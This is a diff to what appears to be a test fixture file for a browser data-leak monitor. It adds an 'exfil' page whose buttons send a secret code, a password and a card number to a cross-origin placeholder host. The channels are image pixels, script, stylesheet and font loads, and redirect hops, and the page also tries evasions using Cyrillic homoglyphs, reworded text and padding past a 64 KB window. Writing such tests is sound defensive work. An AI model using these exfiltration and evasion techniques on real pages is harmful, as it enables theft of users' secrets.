@@ -23,6 +23,12 @@ SECRET = "ZX44719920QQ"
 """What the first site shows the task (a code: data by app.safety.dataflow's rules)."""
 CASE_SECRET = "qWmZbXkRt"
 """A code of letters only, data by its letter case alone (an upper-case letter right after a lower-case one)."""
+SENTENCE = "The vault moves to the north dock at noon on Friday"
+"""A sentence the `exfil` page shows the task (data by its words alone: no digits, no code)."""
+HOMOGLYPH_SECRET = SECRET.replace("X", "\u0425").replace("Q", "\u051a")
+"""SECRET written with Cyrillic look-alikes (Kha for X, Qa for Q)."""
+PADDING = 70_000
+"""Characters of padding before the data in a padded body: past the 64 KB the hold used to judge."""
 LATER_MS = 4500
 """How long the "later" buttons wait before their page sends: past any window an action's hold kept open."""
 
@@ -144,6 +150,26 @@ for (let i = 0; i < 4; i++) { const f = document.createElement('iframe'); f.src 
 <button id="open-path-digits" onclick="window.open('CROSS/guides/2024/delivery')">Guide</button>
 <button id="open-path-words" onclick="window.open('CROSS/help/delivery-times')">Help</button>""",
 }
+PAGES["exfil"] = _SCRIPT + f"""<title>Vault</title><h1>Vault</h1><p>Your recovery code is {SECRET}.</p>
+<p>{SENTENCE}.</p>
+<input id="pw" type="password" aria-label="Password">
+<button id="img" onclick="new Image().src = 'CROSS/px.gif?d={SECRET}'; out('drawn')">Show</button>
+<button id="img-path" onclick="new Image().src = 'CROSS/i/{SECRET}.gif'; out('drawn')">Picture</button>
+<button id="script" onclick="const s = document.createElement('script'); s.src = 'CROSS/s.js?d={SECRET}';
+  document.body.append(s); out('scripted')">Widget</button>
+<button id="style" onclick="const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = 'CROSS/st.css?d={SECRET}';
+  document.head.append(l); out('styled')">Theme</button>
+<button id="font" onclick="new FontFace('f', 'url(CROSS/f.woff?d={SECRET})').load().catch(() => {{}}); out('fonted')">Font</button>
+<button id="img-hop" onclick="new Image().src = '/redirect?to=CROSS/r/{SECRET}'; out('drawn')">Hop</button>
+<button id="img-homoglyph" onclick="new Image().src = 'CROSS/px.gif?d={HOMOGLYPH_SECRET}'; out('drawn')">Look</button>
+<button id="img-plain" onclick="new Image().src = 'CROSS/px.gif?e=view&t=' + Date.now(); out('drawn')">Count</button>
+<button id="post-sentence" onclick="send('CROSS/api/notes', {{method: 'POST', mode: 'no-cors',
+  body: 'text=' + encodeURIComponent('fyi: the VAULT moves to the north-dock, at noon on Friday. thanks')}})">Keep</button>
+<button id="post-plain" onclick="send('CROSS/api/notes', {{method: 'POST', mode: 'no-cors', body: 'text=see+you+on+friday'}})">Save</button>
+<button id="post-padded" onclick="send('/api/notes', {{method: 'POST', body: 'pad=' + 'x'.repeat({PADDING}) + '&n=4111 1111 1111 1111'}})">Store</button>
+<button id="post-huge" onclick="send('/api/notes', {{method: 'POST', body: 'pad=' + 'x'.repeat(1200000)}})">Upload</button>
+<button id="post-pw" onclick="send('CROSS/api/notes', {{method: 'POST', mode: 'no-cors', body: 'n=' + encodeURIComponent(pw.value)}})">Next</button>
+<p>Status: <span id="status">idle</span></p>"""
 PAGES["notes-popup"] = PAGES["post"]
 """The `post` page in a popup the `popup` page opens (a script-opened window, which may close itself)."""
 WORKER_JS = "onmessage = (e) => fetch(e.data, {method: 'POST', body: 'amount=9'});"
